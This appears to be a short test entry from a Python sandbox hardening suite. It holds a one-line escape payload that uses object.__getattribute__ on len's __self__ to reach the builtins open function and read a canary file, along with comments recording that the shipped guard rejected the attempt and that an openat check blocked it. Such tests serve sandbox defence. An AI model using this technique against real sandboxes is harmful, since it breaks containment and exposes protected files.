# Technique   object.__getattribute__ past every guard
# Mechanism   the real lookup is a method too
# As shipped  rejected: unbound, underscore
# Unguarded   blocked: openat

return object.__getattribute__(len, "__self__").open(CANARY_FILE).read()
